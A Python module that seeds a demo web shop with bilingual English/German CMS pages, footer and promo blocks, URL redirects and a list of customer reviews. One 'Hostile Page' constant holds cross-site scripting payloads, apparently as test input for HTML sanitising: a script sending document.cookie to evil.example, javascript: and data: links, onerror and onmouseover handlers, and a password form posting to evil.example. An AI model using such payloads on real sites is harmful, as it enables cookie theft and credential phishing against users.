"""The demo's words: CMS pages and blocks, reviews, redirects."""

from __future__ import annotations

from .demo_setup import two
from .model import Block, Page, Redirect, Review
from .shop import Shop

HOME = """<div class="hero" style="background: #eef1f0; padding: 2rem">
<img src="{{media}}wysiwyg/home/{picture}.svg" alt="{alt}" width="1200" height="480" />
<h2>{title}</h2>
<p>{text} <a href="{{base_url}}apparel/jackets.html">{link}</a></p>
</div>
<p><a href="{{base_url}}camp.html" title="{camp}">{camp}</a> · <a href="{{base_url}}home-living.html">{home}</a></p>"""

HOSTILE = """<h2 onclick="alert('title')">Look, but do not run</h2>
<script>document.location = 'https://evil.example/?c=' + document.cookie</script>
<p style="color: #333; background: url(javascript:alert(1))">A paragraph with
a <a href="javascript:alert(2)">bad link</a>,
a <a href="{base_url}about-us/" onmouseover="alert(3)">good link with a bad habit</a> and
a <a href="data:text/html,<script>alert(4)</script>">data link</a>.</p>
<img src="{media}wysiwyg/home/hills.svg" onerror="alert(5)" alt="Hills">
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="password"></form>
<svg><script>alert(6)</script></svg>"""


def _home(title: str, text: str, link: str, camp: str, home: str, alt: str) -> str:
    return HOME.format(picture="hills", alt=alt, title=title, text=text, link=link, camp=camp, home=home)


def _page(id: int, identifier: str, title: tuple[str, str], english: str, german: str) -> Page:
    return Page(id, identifier, two(*title), two(english, german), heading=two(*title), meta_description=two(*title))


def _pages() -> list[Page]:
    home = Page(
        2,
        "home",
        two("Home Page", "Startseite"),
        two(
            _home(
                "Made for the long way round", "New shells for wet hills.", "See the jackets", "Camp", "Home", "Hills"
            ),
            _home(
                "Für den längeren Weg", "Neue Schalen für nasse Berge.", "Zu den Jacken", "Camping", "Zuhause", "Hügel"
            ),
        ),
        meta_title=two("Tarn & Timber: outdoors and home", "Tarn & Timber: draußen und zuhause"),
        meta_description=two("Things for the hills and for home.", "Dinge für die Berge und fürs Zuhause."),
    )
    return [
        Page(
            1,
            "no-route",
            two("404 Not Found", "404 Nicht gefunden"),
            two("<p>The page is not here.</p>", "<p>Diese Seite gibt es nicht.</p>"),
            heading=two("Whoops", "Hoppla"),
        ),
        home,
        _page(
            4,
            "privacy-policy-cookie-restriction-mode",
            ("Privacy Policy", "Datenschutz"),
            '<p>We keep what an order needs and forget the rest. Ask us at <a href="mailto:post@example.com">'
            "post@example.com</a>.</p>",
            "<p>Wir behalten, was eine Bestellung braucht, und vergessen den Rest. Fragen an "
            '<a href="mailto:post@example.com">post@example.com</a>.</p>',
        ),
        _page(
            5,
            "about-us",
            ("About us", "Über uns"),
            "<p>Two rooms above a boathouse, <em>nine people</em> and a kettle. "
            '<a href="{base_url}customer-service/">Write to us</a>.</p>'
            '<img src="{media}wysiwyg/about/boathouse.svg" alt="The boathouse" />',
            "<p>Zwei Zimmer über einem Bootshaus, <em>neun Leute</em> und ein Wasserkessel. "
            '<a href="{base_url}customer-service/">Schreiben Sie uns</a>.</p>'
            '<img src="{media}wysiwyg/about/boathouse.svg" alt="Das Bootshaus" />',
        ),
        _page(
            6,
            "customer-service",
            ("Customer Service", "Kundendienst"),
            "<h3>Returns</h3><ul><li>100 days, worn or not.</li><li>We pay the way back.</li></ul>"
            "<table><tr><th>Where</th><th>Days</th></tr><tr><td>United States</td><td>4</td></tr></table>",
            "<h3>Rückgabe</h3><ul><li>100 Tage, getragen oder nicht.</li><li>Wir zahlen den Rückweg.</li></ul>"
            "<table><tr><th>Wohin</th><th>Tage</th></tr><tr><td>Deutschland</td><td>2</td></tr></table>",
        ),
        _page(7, "hostile", ("Hostile Page", "Feindliche Seite"), HOSTILE, HOSTILE),
    ]


def _blocks() -> list[Block]:
    return [
        Block(
            1,
            "footer_links_block",
            two("Footer Links", "Links im Fuß"),
            two(
                '<ul class="footer links">\n<li class="nav item"><a href="{base_url}about-us/">About us</a></li>\n'
                '<li class="nav item"><a href="{base_url}customer-service/">Customer Service</a></li>\n</ul>',
                '<ul class="footer links">\n<li class="nav item"><a href="{base_url}about-us/">Über uns</a></li>\n'
                '<li class="nav item"><a href="{base_url}customer-service/">Kundendienst</a></li>\n</ul>',
            ),
        ),
        Block(
            2,
            "home-page-block",
            two("Home Page Block", "Block der Startseite"),
            two(
                '<div class="blocks-promo"><a href="{base_url}camp/tents-shelters.html" class="block-promo">'
                '<img src="{media}wysiwyg/home/tents.svg" alt="" /><strong class="title">First night out</strong>'
                '<span class="info">Kits from tent to torch</span></a></div>',
                '<div class="blocks-promo"><a href="{base_url}camp/tents-shelters.html" class="block-promo">'
                '<img src="{media}wysiwyg/home/tents.svg" alt="" /><strong class="title">Die erste Nacht</strong>'
                '<span class="info">Sets vom Zelt bis zur Lampe</span></a></div>',
            ),
        ),
        Block(
            3,
            "promo",
            two("Promotion", "Aktion"),
            two(
                '<p style="text-align: center"><strong>Free repairs</strong> on everything we ever sold.</p>',
                '<p style="text-align: center"><strong>Kostenlose Reparatur</strong> für alles, was von uns ist.</p>',
            ),
        ),
        Block(
            4,
            "home-living-block",
            two("Home Landing", "Zuhause"),
            two(
                "<p>Things that make a kitchen smell like a forest. "
                '<a href="{base_url}home-living/candles-scents.html">Begin with a candle.</a></p>',
                "<p>Dinge, die eine Küche nach Wald riechen lassen. "
                '<a href="{base_url}home-living/candles-scents.html">Beginnen Sie mit einer Kerze.</a></p>',
            ),
        ),
        Block(
            5,
            "journal-block",
            two("Journal", "Journal"),
            two(
                "<article><h3>Nine hours to the tarn</h3><p>It rained for eight. <img "
                'src="{media}wysiwyg/journal/tarn.svg" alt="The tarn" /></p></article>',
                "<article><h3>Neun Stunden bis zum See</h3><p>Acht davon Regen. <img "
                'src="{media}wysiwyg/journal/tarn.svg" alt="Der See" /></p></article>',
            ),
        ),
    ]


_REDIRECTS = [
    Redirect("jackets.html", "apparel/jackets.html"),
    Redirect("old-rain-shell.html", "gully-rain-shell.html"),
    Redirect("about-tarn-and-timber", "about-us"),
    Redirect("summer-sale", "apparel.html", 302),
]

# SKU | stars | nickname | summary | text
_REVIEWS = """
TT-J01|5|Ines|Dry for two weeks|It rained on twelve days of fourteen and I stayed dry on all of them.
TT-J01|5|Tomasz|Quiet at last|The first shell that does not rustle when you turn your head.
TT-J01|4|Priya|Long sleeves|Great fabric. The sleeves are a little long on me, the cuffs fix it.
TT-J01|4|Bo|Colour is softer|The green is calmer than in the picture, which I like.
TT-J01|3|Hanne|Hood|The hood moves in strong wind. Everything else is perfect.
TT-J01|5|Luca|Third one|One for me, one for my sister, one for the dog sitter.
TT-J01|2|Greg|Pocket zip|The pocket zip jammed in the first week. Service replaced it at once.
TT-J02|5|Maren|My climbing jacket|Stretches where it should and has no loops that catch.
TT-J02|4|Owen|Good in wind|Not warm, but nothing gets through.
TT-J03|5|Sunniva|Minus twelve|Slept in it when the bag was wet. Would not be here otherwise.
TT-J03|4|Jaap|Warm and light|A bit puffy for the city, perfect for the hut.
TT-J05|3|Elif|Small|Order one size up.
TT-J05|4|Sam|Lives in my bag|I forget that it is there until it rains.
TT-J06|5|Aino|Like a house|Warm like a house, with more pockets.
TT-F01|5|Dermot|Every day|I have worn it every day since it came.
TT-F01|4|Carla|Pills a little|After a month it pills under the straps. Still the best fleece I own.
TT-F02|5|Yann|Fisherman's choice|As good as my grandfather's, and it does not itch.
TT-F03|4|Mira|Soft|Very soft. Attracts pine needles.
TT-T01|4|Piet|They climb|The knees are cut by somebody who climbs.
TT-T01|5|Oda|Fits|Finally trousers that are long enough.
TT-T04|2|Ron|Too short|Nice cloth, but they are swimming shorts.
TT-B01|5|Vera|A week in Norway|One shirt, seven days, nobody complained.
TT-B01|5|Karl|Soft|No itching at all, and I itch easily.
TT-B01|3|Noor|Thin|Warm, but the moths found it in autumn.
TT-S01|5|Alma|Five years|Resoled twice. My feet and these boots are one now.
TT-S01|4|Bert|Stiff at first|Give them two weeks.
TT-S01|5|Finn|Wet bog|Waterproof if you wax them, and you should.
TT-S05|4|Tess|Grippy|They let go of clay as promised.
TT-C01|5|Jonas|Still friends|Two doors are the secret.
TT-C01|5|Mo|Storm|Stood in a storm that took the toilet block.
TT-C01|4|Ewa|Pegs|Buy more pegs. Good pegs.
TT-C05|5|Nils|Warm|Minus five and I had one leg outside.
TT-C09|4|Gina|Fast|Fast, but loud. Everybody wakes up for coffee.
TT-C12|5|Ivo|It is a mug|It is a mug. It is the best mug.
TT-C12|5|Lena|Dropped it twice|Chips with dignity, as they say.
TT-C14|4|Kofi|Warm light|The children sleep with it.
TT-C15|3|Uma|Button|The button turns on in the pack.
TT-P01|5|Rasmus|Opens like a case|I can reach my socks. My life is better.
TT-P01|4|Fleur|Well made|The hip belt could have one pocket more.
TT-P03|5|Hugo|A week|Nineteen kilos and no pain.
TT-H01|5|Odile|Heirloom|Heavier than I thought, and more beautiful.
TT-H05|4|Marek|Thumbprint|Mine has the thumbprint. I am oddly proud.
TT-H09|5|Siri|Smells of October|It smells like the walk home.
TT-H09|1|Dale|Smoke|It smells of smoke. I should have read that it does.
TT-K01|5|Anouk|First night|Everything fits, even the six-year-old.
TT-D01|4|Wim|Good maps|The maps work without a signal, which is the point.
TT-M01|5|Rosa|For my mother|She cried. Good tears.
"""


def write(shop: Shop) -> None:
    """Give a shop its pages, blocks, redirects and reviews."""
    shop.pages, shop.blocks, shop.redirects = _pages(), _blocks(), list(_REDIRECTS)
    for number, line in enumerate(_REVIEWS.strip().splitlines()):
        sku, stars, nickname, summary, text = line.split("|")
        written = f"2026-{1 + number % 9:02d}-{1 + number * 7 % 27:02d} {8 + number % 12:02d}:{number:02d}:00"
        shop.reviews.setdefault(sku, []).append(Review(nickname, summary, text, 20 * int(stars), written))
